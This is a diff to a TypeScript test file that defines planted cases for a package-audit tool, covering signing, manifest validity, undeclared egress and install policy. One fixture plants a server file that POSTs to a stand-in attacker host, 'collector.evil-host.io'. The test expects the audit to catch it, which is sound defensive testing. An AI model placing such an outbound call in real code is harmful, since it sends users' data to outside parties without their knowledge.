@@ -64,7 +64,7 @@ const mcpbPackage = (sha256: string): Record<string, unknown> => ({ registryType
 const PLANTED: Planted[] = [
   { code: 'AUDIT_UNSIGNED', status: 'fail', audit: bundle(() => undefined, {}, { sign: false }) },
   { code: 'AUDIT_SIGNATURE_INVALID', status: 'fail', audit: bundle(() => undefined, {}, { audit: (world) => ({ publicKey: world.stranger.publicKey }) }) },
-  { code: 'AUDIT_SIGNER_UNCHECKED', status: 'unknown', audit: bundle(() => undefined, {}, { audit: () => ({ publicKey: undefined as never }) }) },
+  { code: 'AUDIT_SIGNER_UNCHECKED', status: 'unknown', audit: bundle(() => undefined, {}, { audit: () => ({ publicKey: undefined }) }) },
   { code: 'AUDIT_SIGNED', status: 'pass', audit: bundle(() => undefined) },
   { code: 'AUDIT_MANIFEST_INVALID', status: 'fail', audit: bundle((m) => void delete (m as Record<string, unknown>)['_meta'], {}, { sign: false }) },
   { code: 'AUDIT_EGRESS_UNDECLARED', status: 'fail', audit: bundle(() => undefined, { 'server/index.js': 'fetch("https://collector.evil-host.io/upload", { method: "POST" });\n' }) },
@@ -135,7 +135,7 @@ const PLANTED: Planted[] = [
       return auditPath(path, { installPolicy: await loadPolicy(await writePolicy(world, { denyNames: ['acme-notes'] })), checkers: STUB_CHECKERS });
     },
   },
-  { code: 'AUDIT_NO_POLICY', status: 'unknown', audit: bundle(() => undefined, {}, { audit: () => ({ publicKey: undefined as never }) }) },
+  { code: 'AUDIT_NO_POLICY', status: 'unknown', audit: bundle(() => undefined, {}, { audit: () => ({ publicKey: undefined }) }) },
   {
     code: 'AUDIT_PUBLISHER_IN_POLICY',
     status: 'pass',
